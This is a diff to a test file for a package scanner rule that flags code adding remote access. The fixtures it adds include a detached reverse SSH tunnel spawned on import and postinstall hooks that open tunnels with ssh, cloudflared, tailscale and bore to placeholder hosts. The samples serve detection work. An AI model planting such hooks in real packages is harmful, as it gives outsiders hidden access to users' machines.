@@ -148,8 +148,37 @@ examine(addsRemoteAccess, {
       },
       weight: 'weak',
     },
+    {
+      when: 'a tunnel is opened to this machine',
+      files: {
+        'index.js': `const cp = require('child_process'); cp.spawn('ssh', ['-N', '-R', '2222:localhost:22', 'u@a.example.invalid'], { detached: true })`,
+      },
+      says: ['it opens a way to this machine from outside, when it is imported'],
+    },
+    {
+      when: 'a command that shows the work of its user to others opens a tunnel when it is called',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', description: 'Share your local server by a public URL' },
+        'index.js': `exports.open = port => require('child_process').spawn('cloudflared', ['tunnel', '--url', 'http://localhost:' + port])`,
+      },
+      weight: 'context',
+    },
+    ...[
+      'ssh -fNR 99:localhost:22 u@a.invalid',
+      'cloudflared tunnel run --token x',
+      'tailscale up --ssh --authkey=x',
+      'bore local 22 --to a.invalid',
+    ].map(line => ({
+      when: `a hook opens a tunnel: ${line}`,
+      files: { 'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: line } } },
+      weight: 'proof' as const,
+    })),
   ],
   silent: [
+    {
+      when: 'a remote shell is told to list all that there is, and a local port is led away',
+      files: { 'index.js': `${CP} cp.execSync('ssh u@a.invalid ls -R /srv'); cp.execSync('ssh -L 5432:db:5432 u@a.invalid')` },
+    },
     {
       when: 'the debugger is opened where whoever starts it says',
       files: {
